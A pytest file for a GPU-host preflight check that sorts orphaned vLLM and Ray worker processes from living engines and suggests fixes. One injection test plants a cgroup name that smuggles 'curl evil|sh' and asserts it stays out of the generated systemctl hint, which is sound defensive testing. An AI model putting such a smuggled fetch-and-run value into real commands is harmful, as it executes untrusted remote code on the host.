"""Who is a stray: each test is a machine, and the verdict on it."""

import pytest
from tests.tree import Tree
from tests.unit.preflight.engine_machines import (
    CGROUP,
    SERVE,
    SESSION,
    STARTED,
    docker_with_container,
    pids_to_end,
    verdict_of,
)
from tests.unit.verdicts import expect

from sparkd.agent.preflight.check import Level, Verdict, ok, warn
from sparkd.agent.preflight.fixes import EndProcess
from sparkd.base.host import Host
from sparkd.base.host.gpu import GpuFacts, GpuProcess


def with_gpu(tree: Tree) -> None:
    tree.file("/dev/nvidia0")
    tree.meminfo(MemTotal=120, MemFree=20, MemAvailable=20)


def orphans(tree: Tree, group: int = 9) -> None:
    """What a killed `vllm serve` leaves behind (pid 9 was the main process)."""
    tree.process(10, "VLLM::EngineCor", group=group, argv=("VLLM::EngineCore",), private_kib=1024, start_time=STARTED)
    tree.process(11, "VLLM::Worker_TP", parent=10, group=group, private_kib=2048, start_time=STARTED + 1)


def test_a_quiet_machine_has_none(tree: Tree) -> None:
    tree.process(20, "bash", argv=("bash",))
    tree.process(21, "python3", argv=("python3", "train.py", "vllm", "serve"))
    assert verdict_of(tree) == ok("none among 3 processes")


def test_workers_adopted_by_init_whose_group_lost_its_leader_are_ended_with_their_children(tree: Tree) -> None:
    orphans(tree)
    tree.process(12, "python3", parent=11, group=9)
    verdict = verdict_of(tree)
    expect(verdict, Level.BLOCK, "pid 10 (VLLM::EngineCor) and 2 with it", clears=True)
    assert pids_to_end(verdict) == [10, 11, 12]
    assert EndProcess(11, STARTED + 1, "VLLM::Worker_TP", frees_bytes=2048 * 1024) in verdict.fixes
    assert "user uid 0" in verdict.reason


def test_a_zombie_leads_nobody_so_its_workers_are_strays(tree: Tree) -> None:
    tree.process(9, "vllm", state="Z")
    orphans(tree)
    assert pids_to_end(verdict_of(tree)) == [10, 11]


@pytest.mark.parametrize("reaper", ["systemd", "containerd-shim", "docker-init", "tini", "dumb-init", "conmon"])
def test_any_reaper_is_as_good_as_init(tree: Tree, reaper: str) -> None:
    tree.process(5, reaper)
    tree.process(10, "VLLM::Worker_TP", parent=5, group=9)
    assert pids_to_end(verdict_of(tree)) == [10]


def test_the_first_process_of_a_container_is_a_reaper(tree: Tree) -> None:
    tree.process(5, "sleep", namespace_pid=1, cgroup=CGROUP)
    tree.process(10, "VLLM::Worker_TP", parent=5, group=9, cgroup=CGROUP)
    verdict = verdict_of(tree, docker_with_container(ours=False))
    assert pids_to_end(verdict) == [10]
    assert "container vllm_ds4" in verdict.reason


def test_a_living_engine_blocks_and_is_never_touched(tree: Tree) -> None:
    tree.file("/etc/passwd", "root:x:0:0:root:/root:/bin/bash\nmilo:x:1000:1000::/home/milo:/bin/bash\n")
    with_gpu(tree)
    tree.process(9, "vllm", argv=SERVE, private_kib=1024, uid=1000)
    tree.process(10, "VLLM::EngineCor", parent=9, group=9, opened=("socket:[5]", "/dev/nvidia0"), uid=1000)
    tree.listening((29501, 5))
    verdict = verdict_of(tree)
    engine = "a living engine: pid 9 (vllm) and 1 with it, user milo, port 29501"
    expect(verdict, Level.BLOCK, engine, clears=False, fixes=())
    assert "held by" not in verdict.reason, "the port is explained by the engine"


@pytest.mark.parametrize(
    ("cgroup", "opened", "level", "reason"),
    [
        pytest.param(SESSION, "/dev/null", Level.WARN, "of this kind are 2, user uid 1000", id="a name"),
        pytest.param(SESSION, "/dev/nvidia0", Level.BLOCK, "a living engine: pid 9", id="a name and the GPU"),
        pytest.param(CGROUP, "/dev/null", Level.BLOCK, "a living engine: pid 9", id="a name and a container"),
    ],
)
def test_an_engine_of_a_user_is_one_by_more_than_its_name(
    tree: Tree, cgroup: str, opened: str, level: Level, reason: str
) -> None:
    with_gpu(tree)
    tree.process(9, "vllm", argv=SERVE, uid=1000, cgroup=cgroup)
    tree.process(11, "python3", parent=9, group=9, uid=1000, cgroup=cgroup, opened=(opened,))
    tree.process(10, "VLLM::EngineCor", group=9, uid=1000, cgroup=cgroup)
    expect(verdict_of(tree, docker_with_container(ours=False)), level, reason, fixes=())


def judge_asleep(tree: Tree, parent: int = 1) -> Verdict:
    """The verdict on a process of root with an engine's name, asleep in a session, that a fix did not end."""
    tree.process(8, "bash", uid=1000, cgroup=SESSION)
    tree.process(10, "VLLM::EngineCor", parent=parent, group=9, cgroup=SESSION, state="D", start_time=STARTED)
    return verdict_of(tree, tried=frozenset({("end-process", 10, STARTED)}))


ONLY_A_NAME = "pid 10 has the name of an engine's process and nothing else"


@pytest.mark.parametrize("parent", [1, 8], ids=["an orphan", "a living engine"])
def test_a_setuid_program_that_became_roots_is_no_engine_by_its_name(tree: Tree, parent: int) -> None:
    """As chfn while it waits for the lock of /etc/passwd: a user has started it, by a symlink with that name."""
    tree.file("/usr/bin/chfn", mode=0o4755)
    tree.link("/proc/10/exe", "/usr/bin/chfn")
    expect(judge_asleep(tree, parent), Level.WARN, ONLY_A_NAME, fixes=())


@pytest.mark.parametrize("parent", [1, 8], ids=["an orphan", "a living engine"])
def test_a_process_that_a_users_file_system_keeps_from_its_end_is_no_engine_by_its_name(
    tree: Tree, parent: int
) -> None:
    """Its memory is gone, and by that its program."""
    tree.file("/proc/10/stack", "[<0>] request_wait_answer+0x151/0x210\n[<0>] fuse_flush+0x155/0x190\n")
    expect(judge_asleep(tree, parent), Level.WARN, ONLY_A_NAME, fixes=())


def test_an_engine_of_root_that_the_driver_keeps_from_its_end_is_one(tree: Tree) -> None:
    tree.file("/proc/10/stack", "[<0>] nv_wait+0x1/0x2 [nvidia]\n[<0>] put_files_struct.part.0+0x5a/0xc0\n")
    expect(judge_asleep(tree), Level.BLOCK, "sleeps in the kernel (state D)", needs_person=True)


@pytest.mark.parametrize(("is_root", "level"), [(True, Level.WARN), (False, Level.BLOCK)])
def test_what_only_root_can_look_into_may_have_the_gpu(tree: Tree, is_root: bool, level: Level) -> None:
    class HostOfUser(Host):
        @property
        def runs_as_root(self) -> bool:
            return is_root

    tree.file("/dev/nvidia0")
    tree.process(9, "vllm", argv=SERVE, uid=1000, cgroup=SESSION)
    (tree.root / "proc/9/fd").rmdir()
    tree.file("/proc/9/fd")
    assert verdict_of(tree, host_type=HostOfUser).level is level


def test_an_orphan_with_the_gpu_whose_leader_only_has_the_name_is_unknown(tree: Tree) -> None:
    with_gpu(tree)
    tree.process(9, "vllm", argv=SERVE, uid=1000)
    tree.process(10, "VLLM::EngineCor", group=9, uid=1000, opened=("/dev/nvidia0",))
    expect(verdict_of(tree), Level.UNKNOWN, "may be orphaned or not", fixes=())


@pytest.mark.parametrize("state", ["S", "D"])
@pytest.mark.parametrize("group", [9, 10], ids=["whose group lost its leader", "that leads its own group"])
def test_an_orphan_of_a_user_blocks_and_is_never_ended_by_itself(tree: Tree, state: str, group: int) -> None:
    """Its user may have made it look like that, with the GPU open, which everybody may do on DGX OS."""
    with_gpu(tree)
    opened = ("/dev/nvidia0",)
    tree.process(
        10, "VLLM::EngineCor", group=group, uid=1000, state=state, opened=opened, start_time=STARTED, cgroup=SESSION
    )
    verdict = verdict_of(tree, tried=frozenset({("end-process", 10, STARTED)}))
    expect(verdict, Level.BLOCK, "an orphaned engine: pid 10", fixes=(), clears=False, needs_person=False)
    assert [[process.pid for process in offer] for offer in verdict.offers] == [[10]]


def test_a_main_process_that_is_titled_an_api_server_serves(tree: Tree) -> None:
    """As that of vLLM 0.10 is: adopted, its group's leader (a shell) gone."""
    tree.process(10, "VLLM::APIServer", group=9, argv=("VLLM::APIServer_0",), cgroup=SESSION)
    tree.process(11, "VLLM::EngineCor", parent=10, group=9, cgroup=SESSION)
    expect(verdict_of(tree), Level.BLOCK, "a living engine: pid 10 (VLLM::APIServer) and 1 with it", fixes=())


def test_a_living_engine_beside_a_stray_holds_everything_back(tree: Tree) -> None:
    orphans(tree)
    tree.process(30, "vllm", argv=SERVE)
    verdict = verdict_of(tree)
    hint = "stop it first: sudo systemctl stop some.service; if it outlives that: sudo sparkd preflight --fix 30"
    expect(verdict, Level.BLOCK, clears=False, hint=hint)
    assert verdict.reason.startswith("a living engine")
    assert [[process.pid for process in offer] for offer in verdict.offers] == [[30], [10, 11]]


def test_an_orphan_that_leads_its_own_group_is_ended_with_its_children(tree: Tree) -> None:
    tree.process(10, "VLLM::EngineCor", cgroup=SESSION, opened=("socket:[5]", "socket:[6]"))
    tree.process(11, "python3", parent=10, group=10, cgroup=SESSION)
    tree.listening((29501, 5), (40000, 6))
    assert pids_to_end(verdict_of(tree)) == [10, 11]


@pytest.mark.parametrize(
    ("comm", "parent", "cgroup", "port"),
    [
        pytest.param("VLLM::EngineCor", 21, SESSION, 29501, id="a program above it that uses vLLM as a library"),
        pytest.param("VLLM::EngineCor", 5, SESSION, 29501, id="a reaper above it, which may have started it"),
        pytest.param(
            "VLLM::EngineCor", 1, "0::/system.slice/some.service", 29501, id="perhaps a service's own process"
        ),
        pytest.param("VLLM::EngineCor", 1, SESSION, 8001, id="it listens for requests"),
        pytest.param("VLLM::APIServer", 1, SESSION, 40000, id="an API server"),
    ],
)
def test_a_worker_that_is_not_orphaned_beyond_doubt_is_a_living_engine(
    tree: Tree, comm: str, parent: int, cgroup: str, port: int
) -> None:
    tree.process(5, "tini")
    tree.process(21, "python3", argv=("python3", "batch.py"))
    tree.process(10, comm, parent=parent, group=21 if parent == 21 else 10, cgroup=cgroup, opened=("socket:[5]",))
    tree.listening((port, 5))
    verdict = verdict_of(tree)
    expect(verdict, Level.BLOCK, "a living engine", clears=False, fixes=())
    assert [[process.pid for process in offer] for offer in verdict.offers] == [[10]]


def test_a_worker_that_docker_exec_may_have_started_is_left_to_docker(tree: Tree) -> None:
    tree.process(10, "VLLM::EngineCor", cgroup=CGROUP)
    hint = "stop it first: sudo docker stop vllm_ds4"
    verdict = verdict_of(tree, docker_with_container(ours=False))
    expect(verdict, Level.BLOCK, "a living engine", clears=False, fixes=(), offers=(), hint=hint)


def test_an_engine_of_a_users_service_is_stopped_by_that_users_manager(tree: Tree) -> None:
    tree.file("/etc/passwd", "milo:x:1000:1000::/home/milo:/bin/bash\n")
    group = "0::/user.slice/user-1000.slice/user@1000.service/app.slice/ds4.service"
    tree.process(30, "vllm", argv=SERVE, cgroup=group)
    assert "sudo systemctl --user -M milo@ stop ds4.service" in verdict_of(tree).hint
    (tree.root / "etc/passwd").unlink()  # as of a user of a directory in the network
    assert "sudo systemctl --user -M 1000@ stop ds4.service" in verdict_of(tree).hint


def test_no_folder_of_a_users_cgroups_puts_a_command_into_the_hint(tree: Tree) -> None:
    tree.file("/etc/passwd", "milo:x:1000:1000::/home/milo:/bin/bash\n")
    manager = "0::/user.slice/user-1000.slice/user@1000.service"
    tree.process(30, "vllm", argv=SERVE, cgroup=f"{manager}/x; curl evil|sh #.service")
    assert "evil" not in verdict_of(tree).hint
    tree.process(30, "vllm", argv=SERVE, cgroup=rf"{manager}/app-a\x2db.service")
    assert r"sudo systemctl --user -M milo@ stop 'app-a\x2db.service'; " in verdict_of(tree).hint


def test_an_adopted_worker_whose_group_a_shell_leads_is_unknown(tree: Tree) -> None:
    tree.process(9, "bash", argv=("bash", "loop.sh"))
    orphans(tree)
    expect(verdict_of(tree), Level.UNKNOWN, "may be orphaned or not", fixes=())


@pytest.mark.parametrize("group", [9, 10], ids=["started by nohup over ssh", "leading its own group, as under systemd"])
@pytest.mark.parametrize("child", ["VLLM::EngineCor", "python3", None])
def test_a_main_process_is_never_ended(tree: Tree, group: int, child: str | None) -> None:
    """Adopted, its group's leader (a shell) gone, its children named as they like: it leads its engine."""
    tree.process(10, "vllm", argv=SERVE, group=group, start_time=STARTED)
    if child:
        tree.process(11, child, parent=10, group=group)
    expect(verdict_of(tree), Level.BLOCK, "a living engine: pid 10 (vllm)", clears=False, fixes=())


def test_a_rank_under_somebody_elses_ray_is_a_living_engine_even_adopted(tree: Tree) -> None:
    """Its raylet gone, it ends by itself."""
    for parent in (9, 1):
        tree.process(9, "raylet", group=8)
        tree.process(10, "ray::RayWorkerP", parent=parent, group=10, argv=("ray::RayWorkerProc.run",))
        expect(verdict_of(tree), Level.BLOCK, "a living engine: pid 10 (ray::RayWorkerP)", clears=False, fixes=())


def test_an_orphans_group_may_hold_a_living_engine_too_and_that_is_left_alone(tree: Tree) -> None:
    """Two engines started by one script: one lost its main process, the other serves."""
    tree.process(10, "VLLM::EngineCor", group=9)
    tree.process(20, "vllm", argv=SERVE, group=9)
    tree.process(21, "VLLM::EngineCor", parent=20, group=9)
    verdict = verdict_of(tree)
    assert not verdict.clears
    assert pids_to_end(verdict) == [10]


def test_a_worker_of_a_containers_first_process_is_no_orphan(tree: Tree) -> None:
    """`unshare --pid python3 srv.py`, begun by a script that has exited: it is the worker's own parent."""
    tree.process(10, "python3", group=9, argv=("python3", "srv.py"), namespace_pid=1)
    tree.process(11, "VLLM::EngineCor", parent=10, group=9, namespace_pid=2)
    assert pids_to_end(verdict_of(tree)) == []


def test_a_port_that_a_stray_holds_is_free_once_the_stray_is_gone(tree: Tree) -> None:
    orphans(tree)
    tree.link("/proc/11/fd/9", "socket:[5]")
    tree.listening((29501, 5))
    expect(verdict_of(tree), reason="port 29501", clears=True)


def test_holding_a_port_makes_nobody_a_stray(tree: Tree) -> None:
    tree.process(50, "nginx", opened=("socket:[5]",), cgroup=CGROUP)
    tree.listening((8000, 5))
    assert verdict_of(tree).level is Level.OK


def test_a_zombie_is_named_and_does_not_block(tree: Tree) -> None:
    tree.process(20, "bash")
    tree.process(10, "VLLM::Worker_TP", parent=20, state="Z")
    assert verdict_of(tree) == warn("pid 10 (VLLM::Worker_TP) is a zombie that pid 20 (bash) has not reaped")


def test_a_stray_asleep_in_the_kernel_is_tried_first_and_needs_a_person_then(tree: Tree) -> None:
    tree.process(10, "VLLM::Worker_TP", group=9, state="D", start_time=STARTED)
    first = verdict_of(tree)
    expect(first, reason="state D", needs_person=False, required="inspect")
    assert pids_to_end(first) == [10]
    second = verdict_of(tree, tried=frozenset({("end-process", 10, STARTED)}))
    reboot = "reboot this node: sudo systemctl reboot"
    expect(second, fixes=(), needs_person=True, required="reboot", hint=reboot)


def test_a_stray_that_survives_is_not_tried_for_ever(tree: Tree) -> None:
    tree.process(10, "VLLM::Worker_TP", group=9, start_time=STARTED)
    second = verdict_of(tree, tried=frozenset({("end-process", 10, STARTED)}))
    expect(second, Level.BLOCK, clears=False, fixes=(), needs_person=False)
    assert pids_to_end(verdict_of(tree, tried=frozenset({("end-process", 10, STARTED + 1)}))) == [10], "another process"


@pytest.mark.parametrize(
    ("gpu", "frees"),
    [
        pytest.param(GpuFacts(("NVIDIA GB10",), None, (GpuProcess(11, 80 << 30),)), 80 << 30, id="the driver says"),
        pytest.param(GpuFacts(("NVIDIA GB10",), None, (GpuProcess(11, None),)), 89 << 30, id="what nothing explains"),
        pytest.param(
            GpuFacts(("NVIDIA GB10",), None, (GpuProcess(11, None), GpuProcess(99, 9 << 30))), 80 << 30, id="the rest"
        ),
        pytest.param(GpuFacts(("NVIDIA GB10",), None, ()), 89 << 30, id="the driver lists nobody"),
        pytest.param(GpuFacts(("NVIDIA GB10",), None, (GpuProcess(99, 9 << 30),)), 0, id="only its devices are open"),
        pytest.param(GpuFacts(("NVIDIA H200",), 140 << 30, (GpuProcess(11, 80 << 30),)), 0, id="memory of its own"),
    ],
)
def test_the_gpus_memory_of_a_stray_comes_back_with_its_end(tree: Tree, gpu: GpuFacts, frees: int) -> None:
    with_gpu(tree)
    tree.meminfo(MemTotal=120, MemFree=20, MemAvailable=20, CmaTotal=6, CmaFree=0)
    tree.file("/proc/spl/kstat/zfs/arcstats", f"name type data\nsize 4 {5 << 30}\n")
    orphans(tree)
    tree.link("/proc/11/fd/9", "/dev/nvidia0")
    freed = {fix.pid: fix.frees_bytes for fix in verdict_of(tree, gpu=gpu).fixes if isinstance(fix, EndProcess)}
    assert freed == {10: 1 << 20, 11: frees + (2 << 20)}
